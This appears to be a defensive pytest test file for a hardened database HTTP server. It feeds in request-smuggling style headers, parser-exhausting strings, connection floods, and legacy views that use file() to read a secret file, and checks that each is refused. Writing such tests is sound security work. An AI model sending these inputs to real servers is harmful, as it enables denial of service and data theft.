        f"SELECT number AS {'x' * 10_000} FROM numbers(10000) FORMAT JSONEachRow",
    ):
        answer = running.ask(sql, user="reader")
        assert (
            code(answer) in (396, 241)
            or b"TOO_MANY_ROWS_OR_BYTES" in answer.body
            or len(answer.body) < 9 << 20
        ), sql
        assert len(answer.body) < 20 << 20
    assert len(running.ask("SELECT number FROM numbers(1000000)", user="reader").body) > 6_888_890
    assert code(running.ask("SELECT 1", user="reader", max_result_bytes=0)) == 0
    assert (
        int(
            running.ask(
                "SELECT getSetting('max_result_bytes')", user="reader", max_result_bytes=1 << 40
            ).body
        )
        == 8 << 20
    )


def test_a_large_document_is_not_kept_in_memory(running: Store) -> None:
    """An answer in a format with a head and a tail is sent while the query runs, and the query ends
    when the client leaves."""
    before = running.rss_mb
    sql = "SELECT number FROM numbers(30000000) FORMAT JSON"
    head = (
        "POST / HTTP/1.1\r\nHost: localhost\r\nAuthorization: "
        f"{basic('writer', running.secrets['writer'])}\r\n"
    )
    with connect(running.url) as one:
        one.sendall(f"{head}Content-Length: {len(sql)}\r\n\r\n{sql}".encode())
        size = 0
        while size < 400 << 20:
            size += len(one.recv(1 << 20))
        assert running.rss_mb < before + 400
    running_queries = (
        "SELECT count() FROM system.processes WHERE query LIKE '%30000000%' AND query NOT LIKE "
        "'%processes%'"
    )
    wait_until(lambda: running.value(running_queries) == "0", 60, "the query has ended")
    for text, number in (
        ("SELECT throwIf(number = 5) FROM numbers(10) FORMAT JSON", 395),
        ("SELECT nope FORMAT JSON", 47),
    ):
        assert code(running.ask(text)) == number
    assert running.value("SELECT 1 AS x FORMAT JSONCompact SETTINGS max_threads = 1").startswith(
        "{"
    )
    assert running.value("WITH 1 AS format SELECT format FORMAT XML").startswith("<?xml")


def test_statements_are_parsed_in_linear_time(running: Store) -> None:
    """Texts for which a parser with backtracking needs quadratic time."""
    for text in (
        "INSERT INTO kept " + "a " * 100_000,
        "INSERT INTO kept SELECT " + "VALUES " * 100_000,
        "SELECT " + "(" * 100_000,
        "SELECT " + "/*" * 100_000,
        "SELECT " + "$a$" * 60_000,
        "SELECT '" + "''" * 100_000,
        "SELECT 1 SETTINGS " + "a," * 100_000,
        "SELECT 1 " + "SETTINGS " * 50_000,
    ):
        assert running.ask(text).status in (400, 403, 404, 413, 500, 501)


# A7: connections, and clients that leave.


def test_many_idle_connections_do_not_cancel_queries(running: Store) -> None:
    """With more than a thousand of them open, also with half requests, a query of two seconds ends
    as it should."""
    connections = [connect(running.url) for _ in range(1100)]
    try:
        for one in connections[:300]:
            one.sendall(b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-")
        assert running.value("SELECT sleep(2)") == "0"
        more = [connect(running.url) for _ in range(900)]
        connections += more
        assert running.value("SELECT sleep(1)") == "0"
    finally:
        for one in connections:
            one.close()


@pytest.mark.parametrize("user", ["reader", "writer"])
def test_a_query_ends_when_its_client_leaves(running: Store, user: str) -> None:
    """Whatever it calls itself: the mark by which it is found is not the client's to set."""
    mark = f"left{time.monotonic_ns()}"
    sql = (
        f"SELECT count() FROM numbers(1000000000000) WHERE sipHash64(number) = 7 AND '{mark}' != ''"
    )
    # The server finds a query by its log_comment, so no client may set one.
    assert code(running.ask(sql, user=user, log_comment="mine")) in (164, 452)
    running_queries = (
        f"SELECT count() FROM system.processes WHERE query LIKE '%{mark}%' AND query NOT LIKE "
        "'%processes%'"
    )
    with connect(running.url) as one:
        login = basic(user, running.secrets[user])
        one.sendall(
            f"POST / HTTP/1.1\r\nHost: localhost\r\nAuthorization: {login}\r\nContent-Length: "
            f"{len(sql)}\r\n\r\n{sql}".encode()
        )
        wait_until(lambda: running.value(running_queries) == "1", 60, "the query runs")
    wait_until(lambda: running.value(running_queries) == "0", 60, "the query has ended")


def test_slow_readers_leave_a_place_for_the_writer(running: Store) -> None:
    """As many as there are places, and more."""
    done: list[RawAnswer] = []

    def sleep() -> None:
        done.append(
            running.ask(
                "SELECT sleepEachRow(1) FROM numbers(3) SETTINGS max_block_size = 1", user="reader"
            )
        )

    readers = [threading.Thread(target=sleep) for _ in range(20)]
    for one in readers:
        one.start()
    try:
        assert running.value("SELECT count() FROM kept") == "1"
    finally:
        for one in readers:
            one.join()
    assert len(done) == 20


def test_a_request_is_taken_apart_strictly(running: Store) -> None:
    """Lengths and chunk sizes that only Python would take, pipelined requests, a half request."""
    login = f"Authorization: {basic('writer', running.secrets['writer'])}\r\n"
    for line in (
        "Content-Length: +8",
        "Content-Length: 0x8",
        "Content-Length: 1_0",
        "Content-Length: -1",
        "Content-Length: \u0668",
    ):
        head = f"POST / HTTP/1.1\r\nHost: localhost\r\n{login}{line}\r\n\r\nSELECT 1"
        assert send(running.url, head.encode()).status in (400, 0)
    for size in ("+8", "0x8", " 8", "8_", "1_0"):
        head = (
            f"POST / HTTP/1.1\r\nHost: localhost\r\n{login}Transfer-Encoding: "
            f"chunked\r\n\r\n{size}\r\nSELECT 1\r\n0\r\n\r\n"
        )
        assert send(running.url, head.encode()).status in (400, 0)
    one = f"GET /?query=SELECT+1 HTTP/1.1\r\nHost: localhost\r\n{login}\r\n"
    with connect(running.url) as connection:
        connection.sendall(
            one.encode() * 200 + one.replace(login, f"{login}Connection: close\r\n").encode()
        )
        assert (read_answer(connection).body.count(b"HTTP/1.1 200 ")) == 200


def test_a_credential_file_is_needed(tmp_path: Path) -> None:
    """Without one the server does not start; the error names what is missing."""
    import subprocess

    command = server_command(tmp_path)
    for more in ([], ["--credentials", str(tmp_path / "none")]):
        done = subprocess.run(
            [*command, *more], capture_output=True, text=True, timeout=60, check=False
        )
        assert done.returncode != 0
        assert "credential" in done.stderr


def test_views_of_an_earlier_release_that_read_files_are_refused(tmp_path: Path) -> None:
    """Views and tables that read files are still there after an upgrade: no statement may name
    them; others go on."""
    import subprocess
    import sys

    file = tmp_path / "new" / "data" / "secret.csv"
    file.parent.mkdir(parents=True)
    file.write_text(f"{SECRET}\n")
    made = [
        "CREATE TABLE kept (a String) ENGINE = MergeTree ORDER BY a",
        "INSERT INTO kept VALUES ('heap')",
        f"CREATE VIEW by_string AS SELECT c1 FROM kept AS where, '{file}'",
        f"CREATE VIEW by_function AS SELECT file('{file}') AS x",
        f"CREATE VIEW by_table_function AS SELECT * FROM file('{file}', 'LineAsString')",
        f"CREATE TABLE by_buffer (c1 String) ENGINE = Buffer('default', '{file}', 16, 10, 100, 10, "
        "100, 100, 100)",
        f"CREATE TABLE by_default (a String, b String DEFAULT file('{file}')) ENGINE = MergeTree "
        "ORDER BY a",
        "CREATE VIEW plain AS SELECT a FROM kept",
    ]
    # The engine itself, without our server, which would refuse these statements.
    code_of_old = (
        "import chdb, sys\nc = chdb.connect(sys.argv[1])\nfor sql in sys.argv[2:]:\n    "
        "c.query(sql)\nc.close()"
    )
    subprocess.run(
        [sys.executable, "-c", code_of_old, str(file.parent / "store"), *made],
        check=True,
        timeout=60,
    )
    with store(tmp_path / "new") as found:
        for user in ("writer", "reader"):
            assert found.ask("SELECT * FROM plain", user=user).body == b"heap\n"
            for name in (
                "by_string",
                "by_function",
                "by_table_function",
                "by_buffer",
                "by_default",
            ):
                answer = found.ask(f"SELECT * FROM {name}", user=user)
                assert (code(answer), SECRET in answer.body.decode()) == (497, False), name
